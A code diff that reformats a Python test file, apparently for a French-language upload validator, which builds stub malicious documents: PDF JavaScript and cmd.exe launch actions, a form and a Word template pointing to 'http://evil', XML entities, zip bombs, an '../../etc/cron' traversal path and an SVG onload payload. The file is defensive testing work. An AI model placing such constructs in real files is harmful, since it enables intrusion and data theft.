@@ -35,7 +35,9 @@ def zipped(parts, compression=zipfile.ZIP_DEFLATED):
 
 def word(types=WORD, **parts):
     base = {
-        "[Content_Types].xml": f'<?xml version="1.0"?><Types><Override PartName="/word/document.xml" ContentType="{types}"/></Types>',
+        "[Content_Types].xml": (
+            f'<?xml version="1.0"?><Types><Override PartName="/word/document.xml" ContentType="{types}"/></Types>'
+        ),
         "word/document.xml": "<w:document xmlns:w='x'><w:body/></w:document>",
     }
     return zipped(base | {name.replace("__", "/").replace("_dot_", "."): content for name, content in parts.items()})
@@ -68,7 +70,9 @@ GOOD = {
     "note.pdf": pdf,
     "note.docx": word,
     "suivi.xlsx": workbook,
-    "plan.odt": lambda: zipped({"mimetype": "application/vnd.oasis.opendocument.text", "content.xml": "<a/>", "META-INF/manifest.xml": "<m/>"}),
+    "plan.odt": lambda: zipped(
+        {"mimetype": "application/vnd.oasis.opendocument.text", "content.xml": "<a/>", "META-INF/manifest.xml": "<m/>"}
+    ),
     "photo.png": image,
     "photo.JPG": lambda: image("JPEG"),
     "liste.csv": lambda: "Nom;Montant\nÉcole;12".encode("cp1252"),
@@ -93,7 +97,13 @@ def action(kind, **keys):
 
 def nested_action(document):
     document.pages[0].Annots = pikepdf.Array(
-        [pikepdf.Dictionary(Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.Link, A=pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS=pikepdf.String("x")))]
+        [
+            pikepdf.Dictionary(
+                Type=pikepdf.Name.Annot,
+                Subtype=pikepdf.Name.Link,
+                A=pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS=pikepdf.String("x")),
+            )
+        ]
     )
 
 
@@ -101,7 +111,11 @@ def embedded(document):
     document.attachments["x.exe"] = b"MZ"
 
 
-RELS = '<Relationships><Relationship Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="http://evil/x.dotm" TargetMode="External"/></Relationships>'
+RELS = (
+    "<Relationships><Relationship"
+    ' Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate"'
+    ' Target="http://evil/x.dotm" TargetMode="External"/></Relationships>'
+)
 BOMB = b"0" * 130_000_000
 
 HOSTILE = {
@@ -109,11 +123,21 @@ HOSTILE = {
     "a script in an annotation": ("x.pdf", lambda: pdf(nested_action), "un script"),
     "a script in a compressed object": (
         "x.pdf",
-        lambda: pdf(action("/JavaScript", JS=pikepdf.String("x")), object_stream_mode=pikepdf.ObjectStreamMode.generate),
+        lambda: pdf(
+            action("/JavaScript", JS=pikepdf.String("x")), object_stream_mode=pikepdf.ObjectStreamMode.generate
+        ),
         "un script",
     ),
-    "a launch in a PDF": ("x.pdf", lambda: pdf(action("/Launch", F=pikepdf.String("cmd.exe"))), "le lancement d’un programme"),
-    "a form sent elsewhere": ("x.pdf", lambda: pdf(action("/SubmitForm", F=pikepdf.String("http://evil"))), "l’envoi d’un formulaire"),
+    "a launch in a PDF": (
+        "x.pdf",
+        lambda: pdf(action("/Launch", F=pikepdf.String("cmd.exe"))),
+        "le lancement d’un programme",
+    ),
+    "a form sent elsewhere": (
+        "x.pdf",
+        lambda: pdf(action("/SubmitForm", F=pikepdf.String("http://evil"))),
+        "l’envoi d’un formulaire",
+    ),
     "a file in a PDF": ("x.pdf", lambda: pdf(embedded), "un fichier incorporé"),
     "a locked PDF": ("x.pdf", lambda: pdf(encryption=pikepdf.Encryption(owner="a", user="b")), "mot de passe"),
     "a broken PDF": ("x.pdf", lambda: b"%PDF-1.7\n" + b"\x00" * 500, "abîmé"),
@@ -126,10 +150,18 @@ HOSTILE = {
     "an old format": ("x.docx", lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 500, "ancien format"),
     "a sheet named as a letter": ("x.docx", workbook, "n’est pas celui d’un fichier .docx"),
     "any archive": ("x.docx", lambda: zipped({"a.txt": "x"}), "n’est pas celui d’un fichier .docx"),
-    "a template fetched from outside": ("x.docx", lambda: word(**{"word___rels__settings_dot_xml_dot_rels": RELS}), "à l’extérieur"),
+    "a template fetched from outside": (
+        "x.docx",
+        lambda: word(**{"word___rels__settings_dot_xml_dot_rels": RELS}),
+        "à l’extérieur",
+    ),
     "an embedded program": ("x.docx", lambda: word(word__embeddings__oleObject1_dot_bin=b"x"), "objet incorporé"),
     "an ActiveX control": ("x.docx", lambda: word(word__activeX__activeX1_dot_xml="<a/>"), "objet incorporé"),
-    "entities in XML": ("x.docx", lambda: word(word__styles_dot_xml='<!DOCTYPE a [<!ENTITY b "c">]><a>&b;</a>'), "déclaration dangereuse"),
+    "entities in XML": (
+        "x.docx",
+        lambda: word(word__styles_dot_xml='<!DOCTYPE a [<!ENTITY b "c">]><a>&b;</a>'),
+        "déclaration dangereuse",
+    ),
     "entities in another encoding": (
         "x.docx",
         lambda: word(word__styles_dot_xml='<?xml version="1.0" encoding="utf-16"?><!DOCTYPE a><a/>'.encode("utf-16")),
@@ -139,17 +171,32 @@ HOSTILE = {
     "a dynamic link": (
         "x.xlsx",
         lambda: zipped(
-            {"[Content_Types].xml": "<Types><Override ContentType='spreadsheetml.sheet.main+xml'/></Types>", "xl/externalLinks/externalLink1.xml": "<ddeLink/>"}
+            {
+                "[Content_Types].xml": "<Types><Override ContentType='spreadsheetml.sheet.main+xml'/></Types>",
+                "xl/externalLinks/externalLink1.xml": "<ddeLink/>",
+            }
         ),
         "lien actif",
     ),
     "a bomb of zeros": ("x.docx", lambda: word(word__media__a_dot_xml=BOMB), "démesuré"),
     "a bomb of entries": ("x.docx", lambda: zipped({f"a{i}.xml": b"" for i in range(3500)}), "démesuré"),
     "a path that climbs": ("x.docx", lambda: word(**{"../../etc/cron": "x"}), "structure est anormale"),
-    "a lying directory": ("x.docx", lambda: word(word__a_dot_xml="<a>" + "b" * 5000 + "</a>").replace(b"\x8f\x13\x00\x00", b"\x10\x00\x00\x00"), "abîmé"),
+    "a lying directory": (
+        "x.docx",
+        lambda: word(word__a_dot_xml="<a>" + "b" * 5000 + "</a>").replace(b"\x8f\x13\x00\x00", b"\x10\x00\x00\x00"),
+        "abîmé",
+    ),
     "a truncated archive": ("x.docx", lambda: word()[:-30], "abîmé"),
-    "macros in ODF": ("x.odt", lambda: zipped({"mimetype": "application/vnd.oasis.opendocument.text", "Basic/Standard/Module1.xml": "<a/>"}), "macros"),
-    "an ODF of another kind": ("x.odt", lambda: zipped({"mimetype": "application/vnd.oasis.opendocument.spreadsheet"}), "n’est pas celui d’un fichier .odt"),
+    "macros in ODF": (
+        "x.odt",
+        lambda: zipped({"mimetype": "application/vnd.oasis.opendocument.text", "Basic/Standard/Module1.xml": "<a/>"}),
+        "macros",
+    ),
+    "an ODF of another kind": (
+        "x.odt",
+        lambda: zipped({"mimetype": "application/vnd.oasis.opendocument.spreadsheet"}),
+        "n’est pas celui d’un fichier .odt",
+    ),
     "an image that is a page": ("x.png", lambda: b"<svg onload=alert(1)>", "n’est pas celui d’une image"),
     "a JPEG named PNG": ("x.png", lambda: image("JPEG"), "n’est pas celui d’une image"),
     "a broken image": ("x.png", lambda: image()[:40], "abîmée"),
